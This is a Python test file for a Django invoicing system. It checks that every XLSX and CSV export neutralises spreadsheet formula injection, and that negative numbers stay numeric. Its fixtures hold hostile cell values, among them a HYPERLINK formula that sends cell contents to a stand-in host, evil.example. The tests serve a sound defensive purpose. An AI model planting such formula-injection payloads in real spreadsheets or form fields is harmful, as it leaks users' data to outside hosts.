"""Every spreadsheet the system writes is formula-safe (the rule is in ekonomi/exports.py)."""

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from customers.models import Customer, Service, User
from ekonomi import downloads, exports
from invoicing.billing import services as billing_services
from invoicing.models import BudgetMonth, PriceItem, PriceList, VolumeDocument, VolumeImport
from tests.invoicing.billing_helpers import JANUARY, JANUARY_COUNTS, issue, price_list, volumes
from tests.invoicing.time_helpers import entry
from tests.test_permission_matrix import MATRIX, substitutes

LINK = '=HYPERLINK("http://evil.example/?d="&A1;"Klicka")'
HOSTILE_NAME = LINK + "\x07"  # a bell character: illegal in XLSX
HOSTILE_CODE = "-2+3"  # passes the customer form's code rule
NEGATIVE = Decimal("-1234.50")
# A negative number written to CSV starts with a minus sign and must stay a number.
CSV_NUMBER = re.compile(r"-\d+(,\d+)?")

# Exports whose rows carry user-entered text; the remaining ones hold numbers and our labels.
WITH_TEXT = {
    "customers:list",
    "customers:agreement_list",
    "invoicing:price_lists",
    "invoicing:price_list",
    "invoicing:volumes",
    "invoicing:volume_documents",
    "invoicing:volume_imports",
    "invoicing:time_list",
    "invoicing:time_summary",
    "invoicing:time_customer",
    "invoicing:invoice_list",
    "invoicing:billing_workbook",
    "invoicing:statistics",
}
NUMBERS_ONLY = {"invoicing:statistics_customer", "invoicing:budget_export"}


def test_text_that_looks_like_a_formula_is_stored_as_text_in_xlsx():
    content = exports.write_xlsx(
        ["Namn", "Belopp"],
        [[text, Decimal("-5.00")] for text in ["=1+1", "+46 8", "-x", "@SUM(A1)", "\tA", "\rB"]],
        "Prov",
    )
    sheet = load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows(min_row=2):
        assert row[0].data_type == "s"
        assert row[0].quotePrefix
        assert row[1].data_type == "n"
        assert row[1].value == -5
    # XML reads a stored carriage return back as a line feed.
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [
        "=1+1",
        "+46 8",
        "-x",
        "@SUM(A1)",
        "\tA",
        "\nB",
    ]


def test_csv_text_that_looks_like_a_formula_gets_an_apostrophe_and_numbers_stay_numbers():
    content = exports.write_csv(["Namn", "Belopp"], [["=1+1", Decimal("-5.50")], ["Ok", 3]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Namn", "Belopp"], ["'=1+1", "-5,50"], ["Ok", "3"]]


def test_characters_illegal_in_xlsx_are_removed_not_a_server_error():
    content = exports.write_xlsx(["Namn"], [["Bo\x00lag\x1f AB"]], "Tit[el]:\x01")
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Tit_el__"]
    assert workbook.active["A2"].value == "Bolag AB"


def test_a_workbook_built_by_hand_keeps_number_formats_and_escapes_text():
    workbook = exports.new_workbook()
    sheet = exports.new_sheet(workbook, "Summering")
    exports.append_row(sheet, ["@kund", NEGATIVE], formats={2: exports.MONEY_FORMAT}, bold=True)
    cells = load_workbook(io.BytesIO(exports.workbook_bytes(workbook))).active[1]
    assert (cells[0].data_type, cells[0].value, cells[0].font.b) == ("s", "@kund", True)
    assert (cells[1].value, cells[1].number_format) == (NEGATIVE, exports.MONEY_FORMAT)


def test_a_workbook_without_the_exporter_would_carry_a_live_formula():
    # Why the exporter exists: openpyxl alone stores such text as a formula.
    workbook = Workbook()
    workbook.active.append([LINK])
    sheet = load_workbook(io.BytesIO(exports.workbook_bytes(workbook))).active
    assert sheet["A1"].data_type == "f"


@pytest.fixture
def hostile(demo):
    """Billing, volumes, hours and a budget whose text is hostile wherever a user can type."""
    price_list()
    volumes(JANUARY, JANUARY_COUNTS)
    VolumeDocument.objects.create(
        volume_import=VolumeImport.objects.first(),
        external_id="@VER-1",
        customer=Customer.objects.get(code="RIKI"),
        price_item=PriceItem.objects.get(price_list__year=2013, code="KR-FS"),
        date=date(2013, 1, 9),
        month=date(2013, 1, 1),
        amount=NEGATIVE,
    )
    first, *_rest = issue(JANUARY)
    # A credit note: negative amounts in the invoice list and the billing basis.
    billing_services.credit_note_issue(
        invoice=first, user=User.objects.get(username="enhetschef"), reason="@återbetalning"
    )
    riki = Customer.objects.get(code="RIKI")
    officer = User.objects.get(username="handlaggare")
    entry(officer, riki, "R2R", date(2013, 1, 15), "2.5", comment="+SUM(1;2)\x0b")
    User.objects.filter(pk=officer.pk).update(first_name="@Hanna", last_name="\tHandläggare")
    Service.objects.filter(code="R2R").update(name="=Redovisning")
    PriceItem.objects.filter(code="KR-FS").update(name="-1+1 fakturor")
    PriceList.objects.update(note="\rnotering")
    VolumeImport.objects.filter(source=VolumeImport.Source.MANUAL).update(file_name="=cmd.csv")
    BudgetMonth.objects.create(year=2099, month=1, revenue=NEGATIVE)
    Customer.objects.filter(pk=riki.pk).update(code=HOSTILE_CODE, name=HOSTILE_NAME)
    return Customer.objects.get(pk=riki.pk)


def _xlsx_cells(content):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def _check_xlsx(content):
    """Whether hostile text was there (escaped); fails on any live formula."""
    seen = False
    for cell in _xlsx_cells(content):
        assert cell.data_type != "f", cell.value
        if exports.is_formula_like(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix, cell.value
            seen = True
        if isinstance(cell.value, str):
            assert "\x07" not in cell.value and "\x0b" not in cell.value
    return seen


def _check_csv(content):
    seen = False
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"):
        for value in row:
            if value.startswith(exports.FORMULA_STARTS):
                assert CSV_NUMBER.fullmatch(value), value
            if value.startswith(exports.CSV_ESCAPE) and exports.is_formula_like(value[1:]):
                seen = True
    return seen


def _downloads(client, customer):
    """Every GET page of the permission matrix, asked for XLSX and CSV, as an administrator:
    each spreadsheet that comes back, by url name. A new export is checked without a new line."""
    values = substitutes(customer, Customer.objects.get(code="SPTE"))
    for name, rows in MATRIX.items():
        for method, kwargs, _data, _expect in rows:
            if method != "get":
                continue
            url = reverse(name, kwargs={key: values.get(v, v) for key, v in kwargs.items()})
            response = client.get(url, {"export": "xlsx"})
            if response["Content-Type"] != downloads.XLSX:
                continue
            yield name, response["Content-Type"], response.content
            # A list that exports XLSX exports CSV too; a workbook download answers the same.
            response = client.get(url, {"export": "csv"})
            if response["Content-Type"] == downloads.CSV:
                yield name, response["Content-Type"], response.content


def test_every_export_writes_hostile_text_as_text(hostile, client_for):
    client = client_for("admin")
    found = {}
    for name, content_type, content in _downloads(client, hostile):
        check = _check_xlsx if content_type == downloads.XLSX else _check_csv
        found.setdefault(name, []).append(check(content))
    assert (WITH_TEXT | NUMBERS_ONLY) - set(found) == set()
    for name in WITH_TEXT:
        assert any(found[name]), f"{name}: the hostile text did not reach the export"


def test_the_customer_list_export_shows_the_hostile_name_exactly_but_inert(hostile, client_for):
    client = client_for("admin")
    xlsx = client.get(reverse("customers:list"), {"export": "xlsx"})
    rows = load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(min_row=2)
    row = next(row for row in rows if row[0].value == HOSTILE_CODE)
    assert (row[0].data_type, row[0].quotePrefix) == ("s", True)
    assert (row[1].value, row[1].data_type) == (LINK, "s")
    text = client.get(reverse("customers:list"), {"export": "csv"}).content.decode("utf-8-sig")
    row = next(row for row in csv.reader(io.StringIO(text), delimiter=";") if "-2" in row[0])
    assert row[:2] == ["'" + HOSTILE_CODE, "'" + LINK]


def test_negative_amounts_stay_numbers_in_the_budget_and_the_invoice_list(hostile, client_for):
    client = client_for("admin")
    budget = load_workbook(
        io.BytesIO(client.get(reverse("invoicing:budget_export", args=[2099])).content)
    ).active
    assert (budget["B2"].value, budget["B2"].data_type) == (NEGATIVE, "n")
    invoices = client.get(reverse("invoicing:invoice_list"), {"export": "xlsx"})
    totals = [row[4] for row in load_workbook(io.BytesIO(invoices.content)).active.iter_rows(2)]
    assert any(cell.value == Decimal("-22050") and cell.data_type == "n" for cell in totals)
